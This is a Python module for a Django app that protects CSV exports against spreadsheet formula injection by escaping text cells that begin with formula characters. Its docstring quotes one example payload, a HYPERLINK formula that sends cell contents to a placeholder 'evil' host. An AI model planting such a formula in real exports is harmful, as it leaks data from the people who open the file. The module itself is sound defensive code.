"""CSV downloads that a spreadsheet cannot mistake for formulas; every export uses this module.

A cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which some
spreadsheets skip before those) is run as a formula when the file is opened, so a ticket title
such as ``=HYPERLINK("http://evil/?"&A1)`` would leak data from the reader's machine. Such cells
get a leading apostrophe, the usual escape that spreadsheets show as plain text (OWASP's advice).
Numbers stay numbers: only text is escaped.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Sequence
from typing import Any

from django.http import HttpResponse

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """The value to write into a cell: None as empty, formula-looking text escaped."""
    if value is None:
        return ""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def write_rows(response, header: Sequence[Any], rows: Iterable[Sequence[Any]]) -> None:
    writer = csv.writer(response)
    writer.writerow([safe_cell(cell) for cell in header])
    for row in rows:
        writer.writerow([safe_cell(cell) for cell in row])


def csv_response(filename: str, header: Sequence[Any], rows: Iterable[Sequence[Any]]) -> HttpResponse:
    """A CSV download (``attachment``) with every cell guarded; ``filename`` must be ASCII."""
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    write_rows(response, header, rows)
    return response
